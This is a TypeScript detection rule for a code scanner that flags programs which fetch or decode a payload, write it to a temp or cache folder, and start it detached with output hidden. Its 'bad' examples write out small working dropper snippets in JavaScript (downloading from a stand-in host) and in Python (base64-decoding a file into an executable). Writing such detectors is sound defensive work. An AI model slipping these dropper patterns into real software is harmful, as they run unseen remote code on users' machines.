import { isProseFile } from '../../behaviour/is-prose-file.ts';
import { defineRule } from '../define-rule.ts';
import { nearKeywords } from '../near-keywords.ts';

/** A program that is let go: nobody waits for it and nobody reads what it says. */
const letGo = new RegExp(
  [
    String.raw`\b(?:spawn|fork|execFile)\s{0,2}\([^;]{1,160}?\{(?=[^{}]{0,160}\bdetached\s{0,2}:\s{0,2}true)(?=[^{}]{0,160}\bstdio\s{0,2}:\s{0,2}["'\x60]ignore)[^{}]{0,160}\}`,
    String.raw`\bPopen\s{0,2}\((?=[^;]{1,240}?(?:start_new_session\s{0,2}=\s{0,2}True|preexec_fn\s{0,2}=\s{0,2}os\.setsid|creationflags\s{0,2}=))[^;]{1,240}?std(?:out|err)\s{0,2}=\s{0,2}(?:subprocess\.)?DEVNULL`,
  ].join('|'),
  'g',
);
const arrives =
  /\bhttps?["']?\)?\.(?:get|request)\s{0,2}\(|\bfetch\s{0,2}\(|\burl(?:open|retrieve)\s{0,2}\(|\b(?:requests|httpx|axios|got)\.(?:get|post)\s{0,2}\(|["']base64["']|\bb64decode\s{0,2}\(|\batob\s{0,2}\(|\b(?:decompress|gunzipSync|inflateSync)\s{0,2}\(/;
/** A folder that is emptied unnoticed. */
const aside = String.raw`(?:tmpdir\s{0,2}\(\s{0,2}\)|gettempdir\s{0,2}\(\s{0,2}\)|mkstemp\s{0,2}\(|mkdtemp\w{0,4}\s{0,2}\(|NamedTemporaryFile\s{0,2}\(|["'\x60]/(?:var/)?tmp/|/dev/shm/|["'\x60/]\.cache\b)`;
const words = new Set(['spawn', 'process', 'execPath', 'sys', 'executable', 'true', 'detached']);

export const detachedDrop = defineRule({
  reads: 'text',
  id: 'execution/detached-drop',
  title: 'Puts a fetched or decoded program aside and starts it out of sight',
  severity: 'high',
  confidence: 0.85,
  lane: 'enforce',
  category: 'SHELL_INJECTION',
  ideas: [96],
  kinds: 'all',
  cwe: [506, 494],
  owasp: ['LLM06:2025', 'ASI05', 'AST01'],
  atlas: ['T0094', 'T0050'],
  why: 'What runs is not in the package, nobody sees its output, and it goes on when the session has ended.',
  fix: 'Ship the code in the package and run it in the foreground, with its output shown.',
  fixable: 'no',
  proof: { source: 'a program is fetched or decoded', sink: 'it is started out of sight' },
  targets: ['script'],
  keywords: ['detached', 'start_new_session', 'os.setsid', 'creationflags'],
  check: nearKeywords({
    pattern: letGo,
    before: 420,
    reach: 420,
    accept: (match, { file, view }) => {
      if (isProseFile(file) && view.kind !== 'decoded') return false;
      const before = view.text.slice(Math.max(0, match.index - 3000), match.index);
      if (!arrives.test(before)) return false;
      const names = match[0].slice(0, 160).match(/\b[A-Za-z_]\w{0,40}\b/g) ?? [];
      return [...new Set(names)].some((name) => !words.has(name) && isPutAside(name, before));
    },
  }),
  examples: {
    bad: [
      {
        path: 'a.js',
        text: "const fs = require('fs');\nconst os = require('os');\nconst target = os.tmpdir() + '/.fonts.mjs';\nhttps.get('https://fonts.quickcore.test/pack', (answer) => {\n  answer.pipe(fs.createWriteStream(target)).on('close', () => {\n    spawn('node', [target], { stdio: 'ignore', detached: true }).unref();\n  });\n});\n",
        lines: [6],
      },
      {
        path: 'a.py',
        text: 'import base64, os, subprocess, tempfile\nhelper = os.path.join(tempfile.gettempdir(), "helper")\nwith open(helper, "wb") as out:\n    out.write(base64.b64decode(open("logo.txt").read()))\nos.chmod(helper, 0o755)\nsubprocess.Popen([helper], start_new_session=True, stdout=subprocess.DEVNULL)\n',
        lines: [6],
      },
    ],
    good: [
      {
        path: 'a.js',
        text: "const log = path.join(os.tmpdir(), 'server.log');\nfs.writeFileSync(log, '');\nconst ok = await fetch('http://localhost:3000/health');\nspawn('node', ['server.js'], { detached: true, stdio: 'ignore' }).unref();\n",
        because: 'starts a server of the package; the temporary file is a log',
      },
      {
        path: 'a.py',
        text: 'import subprocess, tempfile, urllib.request\npage = tempfile.gettempdir() + "/page.html"\nurllib.request.urlretrieve("https://docs.quickcore.test/", page)\nsubprocess.Popen(["python", "serve.py"], start_new_session=True, stdout=subprocess.DEVNULL)\n',
        because: 'what is fetched is not what is started',
      },
    ],
  },
});

/** The name stands for a file in a temporary or cache folder, and the program writes it. */
function isPutAside(name: string, before: string): boolean {
  const assigned = new RegExp(String.raw`\b${name}\s{0,2}=\s{0,2}[^\n;]{0,120}${aside}`);
  const written = new RegExp(
    String.raw`\b(?:createWriteStream|writeFile(?:Sync)?)\s{0,2}\(\s{0,2}${name}\b|\bopen\s{0,2}\(\s{0,2}${name}\s{0,2},\s{0,2}["'][wax]|\burlretrieve\s{0,2}\([^\n]{1,160},\s{0,2}${name}\b|\b${name}\.write_(?:bytes|text)\s{0,2}\(`,
  );
  return assigned.test(before) && written.test(before);
}
